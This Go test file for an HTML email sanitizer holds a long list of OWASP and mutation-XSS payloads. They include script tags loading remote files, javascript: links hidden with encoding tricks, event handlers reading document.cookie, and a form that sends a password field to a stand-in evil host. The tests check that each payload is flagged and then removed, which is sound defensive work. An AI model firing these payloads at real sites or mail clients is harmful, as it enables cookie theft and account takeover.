package safehtml

import (
	"strings"
	"testing"
)

// xssVectors are the entries of OWASP's XSS Filter Evasion Cheat Sheet that
// apply to HTML mail, plus the mutation-XSS and HTML5 vectors that came
// after it. Each must be unsafe before sanitising (TestOracleFlagsEveryVector)
// and safe after (TestSanitizeRemovesEveryXSSVector). absent lists text that
// must not survive in the output even as an inert attribute.
var xssVectors = []struct {
	name   string
	input  string
	absent []string
}{
	{name: "script element", input: `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`},
	{name: "inline script", input: `<p>hi</p><script>alert('XSS')</script>`, absent: []string{"alert"}},
	{name: "img javascript src", input: `<IMG SRC="javascript:alert('XSS');">`},
	{name: "img javascript src without quotes", input: `<IMG SRC=javascript:alert('XSS')>`},
	{name: "img javascript src in mixed case", input: `<IMG SRC=JaVaScRiPt:alert('XSS')>`},
	{name: "img javascript src with grave accents", input: "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"},
	{name: "malformed a with onmouseover", input: `<a onmouseover="alert(document.cookie)">xxs link</a>`},
	{name: "malformed img quotes around script", input: `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`},
	{name: "img onerror without quotes", input: `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`},
	{name: "img onerror with entity encoded code", input: `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`},
	{name: "decimal character references", input: `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`},
	{name: "decimal references without semicolons", input: `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`},
	{name: "hex references without semicolons", input: `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`},
	{name: "embedded tab", input: "<IMG SRC=\"jav\tascript:alert('XSS');\">"},
	{name: "encoded tab in link", input: `<a href="jav&#x09;ascript:alert('XSS');">click</a>`},
	{name: "encoded newline", input: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`},
	{name: "encoded carriage return", input: `<a href="jav&#x0D;ascript:alert('XSS');">click</a>`},
	{name: "null byte in scheme", input: "<IMG SRC=java\x00script:alert(\"XSS\")>"},
	{name: "spaces and meta chars before scheme", input: `<a href=" &#14;  javascript:alert('XSS');">click</a>`},
	{name: "entity-encoded scheme colon", input: `<a href="javascript&colon;alert(1)">click</a>`},
	{name: "partly entity-encoded scheme", input: `<a href="&#x6A;ava&#115;cript:alert(1)">click</a>`},
	{name: "newline inside scheme", input: "<a href=\"java\nscript:alert(1)\">click</a>"},
	{name: "vbscript link", input: `<a href='vbscript:msgbox("XSS")'>click</a>`},
	{name: "non-alpha-non-digit after tag name", input: `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`},
	{name: "non-alpha-non-digit event handler", input: "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"},
	{name: "extraneous open brackets", input: `<<SCRIPT>alert("XSS");//<</SCRIPT>`},
	{name: "no closing script tag", input: `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`},
	{name: "protocol-relative script", input: `<SCRIPT SRC=//xss.rocks/.j>`},
	{name: "double open angle iframe", input: `<iframe src=http://xss.rocks/scriptlet.html < <p>after</p>`},
	{name: "end title tag", input: `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`},
	{name: "input image", input: `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`},
	{name: "body background javascript", input: `<BODY BACKGROUND="javascript:alert('XSS')">x`},
	{name: "img dynsrc", input: `<IMG DYNSRC="javascript:alert('XSS')">`},
	{name: "img lowsrc", input: `<IMG LOWSRC="javascript:alert('XSS')">`},
	{name: "list-style-image in style block", input: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`},
	{name: "vbscript image", input: `<IMG SRC='vbscript:msgbox("XSS")'>`},
	{name: "svg onload", input: `<svg/onload=alert('XSS')>`},
	{name: "body onload", input: `<BODY ONLOAD=alert('XSS')>text`},
	{name: "bgsound", input: `<BGSOUND SRC="javascript:alert('XSS');">`},
	{name: "link stylesheet javascript", input: `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`},
	{name: "link remote stylesheet", input: `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`},
	{name: "style import", input: `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>x`},
	{name: "meta link header", input: `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`},
	{name: "moz-binding in style block", input: `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`},
	{name: "style import with escapes", input: `<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`},
	{name: "style expression split by comment", input: `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`},
	{name: "expression with comments on an anchor", input: `exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`},
	{name: "style element of type javascript", input: `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`},
	{name: "background-image in class rule", input: `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`},
	{name: "unknown element with expression", input: `<XSS STYLE="xss:expression(alert('XSS'))">`},
	{name: "behavior htc", input: `<XSS STYLE="behavior: url(xss.htc);">`},
	{name: "meta refresh javascript", input: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`},
	{name: "meta refresh data", input: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`},
	{name: "iframe javascript", input: `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`},
	{name: "iframe event", input: `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`},
	{name: "iframe srcdoc", input: `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`},
	{name: "frameset", input: `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`},
	{name: "table background javascript", input: `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>`},
	{name: "td background javascript", input: `<TABLE><TD BACKGROUND="javascript:alert('XSS')">x</TD></TABLE>`},
	{name: "div background-image javascript", input: `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`},
	{name: "div background-image css escapes", input: `<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">x</DIV>`},
	{name: "style backslash escape of javascript", input: `<div style="background:url(\6a avascript:alert(1))">x</div>`},
	{name: "div background-image with control char", input: `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">x</DIV>`},
	{name: "div width expression", input: `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`},
	{name: "style attribute import", input: `<p style="@import 'http://evil.example/x.css'; color: red">x</p>`, absent: []string{"import"}},
	{name: "style attribute moz-binding", input: `<p style="-moz-binding: url(http://evil.example/xbl#x)">x</p>`, absent: []string{"binding"}},
	{name: "style fixed position overlay", input: `<div style="position: fixed; top: 0; left: 0; width: 100%">fake login</div>`, absent: []string{"fixed", "top"}},
	{name: "style absolute position", input: `<div style="position:absolute">x</div>`, absent: []string{"absolute"}},
	{name: "base href", input: `<BASE HREF="javascript:alert('XSS');//"><a href="x">x</a>`},
	{name: "object text/x-scriptlet", input: `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`},
	{name: "object data javascript", input: `<object data="javascript:alert(1)">fallback</object>`},
	{name: "embed svg data", input: `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`},
	{name: "applet", input: `<applet code="XSS.class" codebase="http://evil.example/"></applet>`},
	{name: "data text/html link", input: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`},
	{name: "data svg image", input: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`},
	{name: "img onerror inside a table", input: `<table><tr><td><img src=x onerror=alert(1)></td></tr></table>`},
	{name: "details ontoggle", input: `<details open ontoggle=alert(1)><summary>s</summary>x</details>`},
	{name: "math maction xlink", input: `<math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(2)">CLICKME</maction></math>`},
	{name: "svg anchor xlink", input: `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`},
	{name: "attributes without quotes", input: `<img src=x onerror=alert(1) alt=x>`},
	{name: "nested comment closed with bang", input: `<!-- --!><img src=x onerror=alert(1)>-->`},
	{name: "comment inside attribute", input: `<!--<img src="--><img src=x onerror=alert(1)//">`},
	{name: "CDATA section", input: `<![CDATA[><img src=x onerror=alert(1)>]]>`},
	{name: "form with formaction", input: `<form action="https://evil.example/"><button formaction=javascript:alert(1)>X</button><input name=pw type=password></form>`},
	{name: "autofocus input", input: `<input onfocus=alert(1) autofocus>`},
	{name: "autofocus select", input: `<select autofocus onfocus=alert(1)><option>x</option></select>`},
	{name: "autofocus textarea", input: `<textarea autofocus onfocus=alert(1)>x</textarea>`},
	{name: "keygen", input: `<keygen autofocus onfocus=alert(1)>`},
	{name: "video source onerror", input: `<video><source onerror="alert(1)"></video>`},
	{name: "audio onerror", input: `<audio src=x onerror=alert(1)></audio>`},
	{name: "marquee onstart", input: `<marquee onstart=alert(1)>x</marquee>`},
	{name: "isindex", input: `<isindex action=javascript:alert(1) type=image>`},
	{name: "img srcset", input: `<img src="cid:a" srcset="x 1x, javascript:alert(1) 2x">`},
	{name: "noscript mutation", input: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
	{name: "math style mutation", input: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`},
	{name: "style end inside attribute", input: `<style><img src="</style><img src=x onerror=alert(1)//">`},
	{name: "xmp mutation", input: `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`},
	{name: "template content", input: `<template><img src=x onerror=alert(1)></template>`},
	{name: "img src eval", input: `<img src=x:alert(alt) onerror=eval(src) alt=0>`},
	{name: "scheme with leading space", input: `<a href="  javascript:alert(1)">click</a>`},
	{name: "unknown tag with handler", input: `<xss id=x tabindex=1 onfocus=alert(1)></xss>`},
	{name: "a with target and relative javascript", input: `<a href="javascript://%0aalert(1)" target=_top>click</a>`},
	{name: "plaintext", input: `<plaintext><img src=x onerror=alert(1)>`},
}

func TestOracleFlagsEveryVector(t *testing.T) {
	// The sanitizer tests below are only as good as the oracle: each
	// vector, unsanitized, must be reported, or its test could not fail.
	for _, v := range xssVectors {
		t.Run(v.name, func(t *testing.T) {
			if len(vectorsIn(v.input, false)) == 0 {
				t.Errorf("oracle finds nothing in the raw vector %q", v.input)
			}
		})
	}
}

func TestSanitizeRemovesEveryXSSVector(t *testing.T) {
	if len(xssVectors) < 30 {
		t.Fatalf("only %d vectors", len(xssVectors))
	}
	cid := func(id string) string { return "/api/v1/messages/1/cid/" + id }
	for _, v := range xssVectors {
		t.Run(v.name, func(t *testing.T) {
			for _, opt := range []Options{{}, {CIDURL: cid}, {CIDURL: cid, AllowRemote: true}} {
				out := Sanitize(v.input, opt).HTML
				assertSafe(t, out, opt.AllowRemote)
				for _, s := range v.absent {
					if strings.Contains(strings.ToLower(out), s) {
						t.Errorf("output contains %q: %s", s, out)
					}
				}
				// Wrapped in a full mail as well: context must not
				// change the verdict.
				out = Sanitize("<html><body><table><tr><td>"+v.input+"</td></tr></table><p>after</p></body></html>", opt).HTML
				assertSafe(t, out, opt.AllowRemote)
			}
		})
	}
}
